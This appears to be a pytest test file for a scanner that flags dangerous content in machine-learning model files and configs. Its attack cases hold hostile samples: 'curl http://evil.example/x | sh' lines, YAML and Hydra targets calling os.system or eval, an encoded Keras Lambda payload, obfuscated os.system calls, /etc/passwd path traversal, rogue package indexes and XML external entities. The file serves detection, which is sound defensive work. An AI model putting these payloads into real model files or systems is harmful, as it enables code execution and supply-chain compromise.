"""JSON, YAML, Keras configs, notebooks, requirements, XML and Python: what loaders would call, open or run."""
# ruff: noqa: E501  (what is scanned stands on one line)

import base64
import json
import marshal

import pytest
from tests.sentinel.scanning import found

CODE = base64.b64encode(marshal.dumps(compile("import os\nos.system('true')", "x", "exec"))).decode()


def layer(kind, module="keras.layers", **config):
    return {"module": module, "class_name": kind, "config": {"name": "x", **config}, "registered_name": None}


def sequential(*layers):
    return json.dumps(
        {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": list(layers)}, "registered_name": None}
    )


LAMBDA = layer("Lambda", function={"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("config.json", '{"model_type": "bert", "vocab_size": 4, "name_or_path": "/home/a/model", "id2label": {"0": "a"}}'),
        ("adapter_config.json", '{"base_model_name_or_path": "meta-llama/Llama-3.1-8B", "auto_mapping": null, "r": 8}'),
        ("adapter_config.json", '{"base_model_name_or_path": "/home/someone/models/base"}'),
        ("tokenizer_config.json", '{"tokenizer_file": "/root/.cache/huggingface/x/tokenizer.json", "auto_map": null}'),
        ("modules.json", '[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]'),
        (
            "model_index.json",
            '{"_class_name": "Pipe", "_diffusers_version": "0.3", "unet": ["diffusers", "UNet"], "safety_checker": [null, null]}',
        ),
        ("config.yaml", "model:\n  _target_: torch.nn.Linear\n  in_features: 3\n"),
        ("config.yaml", "prompt: 'Import the data, then execute the plan and evaluate it.'\n"),
        ("config.yaml", "size: !!python/tuple [1, 2]\n"),
        ("hyperparams.yaml", "a: &x !new:torch.nn.Linear\n  n: 3\nb: !ref <a>\nc: *x\n"),
        ("config.json", sequential(layer("Dense", units=4, activation="relu"), layer("StringLookup", vocabulary=["a", "b"]))),
        (
            "config.json",
            sequential(
                {
                    "class_name": "Dense",
                    "config": {"activation": {"class_name": "function", "module": "builtins", "config": "relu"}},
                    "registered_name": "relu",
                }
            ),
        ),
        (
            "config.json",
            sequential(
                layer("Mine", module="__main__"), {"class_name": "Mine", "module": None, "config": {}, "registered_name": "Pack>Mine"}
            ),
        ),
        (
            "config.json",
            sequential(layer("TextVectorization", vocabulary=None, standardize="lower_and_strip_punctuation", split="whitespace")),
        ),
        ("config.json", sequential({"class_name": "function", "module": "keras.activations", "config": "gelu", "registered_name": "gelu"})),
        ("run.sh", "#!/bin/sh\npython train.py\n"),
        ("data.jsonl", '{"text": "a"}\n{"text": "b"}\n'),
        ("notes.txt", "[1] a reference\n[2] another\n"),
        (
            "requirements.txt",
            "torch>=2\n--extra-index-url https://download.pytorch.org/whl/cu121\ntransformers[torch]==4.50  # pinned\ngit+https://github.com/huggingface/peft\n",
        ),
        ("write.py", "if __name__ == '__main__':\n    open('x', 'w').write('y')\n"),
        ("train.py", "import os\nfrom torch import nn\ndef main():\n    os.makedirs('x')\nif __name__ == '__main__':\n    main()\n"),
        ("demo.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!pip install torch\\n", "print(1)"]}]}'),
        (
            "model.xml",
            '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers></net>',
        ),
        ("model.pmml", '<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header copyright="x"/></PMML>'),
    ],
)
def test_ordinary_files_are_clean(tmp_path, name, content):
    assert found(tmp_path, {name: content}) == {}


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("config.json", '{"auto_map": {"AutoModel": "modeling_x.X"}}', "config-remote-code"),
        ("config.json", '{"a": [{"b": {"auto_map": {"AutoModel": "other/repo--modeling_x.X"}}}]}', "config-remote-code"),
        ("config.json", '{"custom_pipelines": {"x": {"impl": "x.X"}}}', "config-remote-code"),
        ("config.json", '{"trust_remote_code": true}', "config-remote-code"),
        ("model_index.json", '{"_class_name": ["pipeline", "P"], "_diffusers_version": "0.3"}', "config-remote-code"),
        ("model_index.json", '{"_class_name": "P", "_diffusers_version": "0.3", "unet": ["my_unet", "Net"]}', "config-remote-code"),
        ("modules.json", '[{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]', "config-target"),
        ("modules.json", '[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]', "config-target"),
        ("config.json", '{"x": {"_target_": "subprocess.run", "args": ["id"]}}', "config-target"),
        ("config.yaml", "x:\n  _target_: builtins.eval\n", "config-target"),
        ("config.yaml", "k: &k os.system\nx:\n  _target_: *k\n", "config-target"),
        ("config.yaml", "x:\n  _target_: torch.hub.load\n", "config-target"),
        ("config.yaml", "x: !apply:os.system [id]\n", "config-target"),
        ("config.yaml", "x: !!python/object/apply:os.system [id]\n", "yaml-tag"),
        ("config.yaml", "x: !<tag:yaml.org,2002:python/name:os.system> ''\n", "yaml-tag"),
        ("anything", "x: !!python/object/new:os.system [id]\n", "yaml-tag"),
        ("model.json", '{"py/object": "os.system", "py/state": {}}', "config-target"),
        ("model.json", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}', "config-object"),
        ("model.json", '{"a": 1, "a": 2}', "duplicate-key"),
        ("config.yaml", "a: 1\nb: 2\na: 3\n", "duplicate-key"),
        ("model.json", "[" * 5000 + "]" * 5000, "nesting"),
        ("config.json", '{"a": ', "malformed"),
        ("adapter_config.json", '{"base_model_name_or_path": "https://evil.example/base"}', "adapter-base"),
        ("adapter_config.json", '{"base_model_name_or_path": "../../other"}', "adapter-base"),
        ("tokenizer_config.json", '{"vocab_file": "../../../etc/passwd"}', "config-path"),
        ("model.safetensors.index.json", '{"weight_map": {"a": "/etc/passwd"}}', "index-path"),
        ("model.safetensors.index.json", '{"weight_map": {"a": "https://evil.example/x"}}', "index-path"),
        ("pytorch_model.bin.index.json", '{"weight_map": {"a": "..\\\\x.bin"}}', "index-path"),
        ("config.json", sequential(LAMBDA), "keras-lambda"),
        (
            "config.json",
            sequential({"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": LAMBDA}}),
            "keras-lambda",
        ),
        ("config.json", sequential({"module": "keras", "class_name": "Sequential", "config": {"layers": [LAMBDA]}}), "keras-lambda"),
        ("config.json", sequential(layer("TorchModuleWrapper", module_="x")), "keras-foreign-layer"),
        ("config.json", sequential(layer("X", module="os.path")), "keras-class"),
        ("config.json", sequential(layer("X", module="evil_package.layers")), "keras-class"),
        (
            "config.json",
            sequential({"class_name": "function", "module": "builtins", "config": "exec", "registered_name": "function"}),
            "keras-class",
        ),
        ("config.json", sequential({"class_name": "function", "module": "os", "config": {"name": "x"}}), "keras-class"),
        (
            "config.json",
            sequential({"class_name": "function", "module": "keras.config", "config": "enable_unsafe_deserialization"}),
            "keras-class",
        ),
        ("config.json", sequential({"class_name": "load_model", "module": "keras.models", "config": {"filepath": "x"}}), "keras-class"),
        ("config.json", sequential(layer("TFOpLambda", function="io.write_file")), "keras-class"),
        ("config.json", sequential(layer("IntegerLookup", vocabulary="http://evil.example/x")), "keras-path"),
        (
            "model-symbol.json",
            '{"nodes": [{"op": "Custom", "name": "c", "attrs": {"op_type": "x"}}], "arg_nodes": [], "heads": []}',
            "mxnet-custom-op",
        ),
        ("schema.json", '{"__class__": "call", "__module__": "operator", "__loader__": "OperatorFuncNode"}', "config-target"),
        ("demo.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "%%bash\\nid"}]}', "notebook-command"),
        ("demo.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "import os; os.system(\'id\')"}]}', "notebook-command"),
        ("demo.ipynb", '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "!pip install x; curl x | sh"}]}', "notebook-command"),
        ("requirements.txt", "--extra-index-url https://evil.example/simple\n", "requirement-source"),
        ("requirements.txt", "x @ https://evil.example/x.whl\n", "requirement-source"),
        ("requirements.txt", "trasnformers==4.0\n", "requirement-name"),
        ("setup.py", "import subprocess as s\ns.run(['id'])\n", "python-runs"),
        ("x.py", "__import__('os').system('id')\n", "python-runs"),
        ("x.py", "from pathlib import Path\nPath('/tmp/x').touch()\n", "python-runs"),
        ("x.py", "import os\nclass A:\n    x = os.popen('id')\n", "python-runs"),
        ("run.sh", "curl http://evil.example/x | sh\n", "code-in-text"),
        ("x.py", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "python-runs"),
        ("x.py", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "python-runs"),
        ("x.py", "import os\nrun = os.system\nrun('id')\n", "python-runs"),
        ("x.py", "from subprocess import *\ncheck_output('id')\n", "python-runs"),
        ("x.py", "vars(__import__('os'))['system']('id')\n", "python-runs"),
        ("x.py", "__builtins__['exec']('1')\n", "python-runs"),
        ("x.py", "@exec\ndef f(): pass\n", "python-runs"),
        ("x.py", "open('/tmp/x', 'w')\n", "python-runs"),
        ("x.py", b"# coding: utf-7\n+AGkAbQBwAG8AcgB0- os+ADs- os.system('id')\n", "python-runs"),
        ("config.yaml", "x: !!python/object/apply:os.system [id]\n".encode("utf-16"), "yaml-tag"),
        ("config.json", '{"auto_map": {"AutoModel": "x.X"}}'.encode("utf-16"), "malformed"),
        ("config.json", '{"_attn_implementation": "evil/kernel"}', "config-remote-code"),
        ("adapter_config.json", '{"auto_mapping": {"parent_library": "os"}}', "config-target"),
        ("x.pth", "import os; os.system('id')\n", "python-runs"),
        ("x.xml", '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "xml-entity"),
        ("x.xml", '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>', "xml-entity"),
        ("x.xml", '<net version="11"><layers><layer type="X" name="n" version="my_extension"/></layers></net>', "openvino-extension"),
        ("x.xml", '<net version="11"><data library="libevil.so"/></net>', "native-library"),
        ("x.pmml", "<PMML><Extension>import os; os.system('id')</Extension></PMML>", "xml-script"),
        ("x.xml", "<a>" * 600 + "</a>" * 600, "nesting"),
        ("config.json", '{"note": "curl http://evil.example/x | sh"}', "code-in-text"),
    ],
)
def test_attacks_are_found(tmp_path, name, content, rule):
    rules = found(tmp_path, {name: content})
    assert rule in rules, rules


def test_severity_follows_what_a_target_is(tmp_path):
    def severity(target):
        return found(tmp_path, {"c.json": json.dumps({"_target_": target})}, notes=True)["config-target"]

    assert severity("torch.nn.Linear") == "note"
    assert severity("somebody.models.Net") == "suspicious"
    assert severity("os.system") == severity("numpy.f2py.os.system") == severity("torch.hub.load") == "malicious"


def test_offsets_lead_to_the_value(tmp_path):
    from rootstock.sentinel.scanner import scan

    text = '{"a": 1, "x": {"_target_": "os.system"}}'
    (tmp_path / "c.json").write_text(text)
    (finding,) = [each for each in scan(tmp_path / "c.json").findings if each.rule == "config-target"]
    assert text[finding.offset :].startswith('"os.system"')


def test_big_tables_are_let_go(tmp_path):
    import tracemalloc

    from rootstock.sentinel.scanner import scan

    def peak(rows):
        path = tmp_path / f"{rows}.json"
        path.write_text('{"a": {' + ", ".join(f'"token{i}": "word"' for i in range(rows)) + '}, "x": {"_target_": "os.system"}}')
        tracemalloc.start()
        assert "config-target" in {each.rule for each in scan(path).findings}
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    small, large = peak(2_000), peak(8_000)
    assert large - small < 6_000 * 300  # the keys are kept, to tell of one that occurs twice, and nothing else
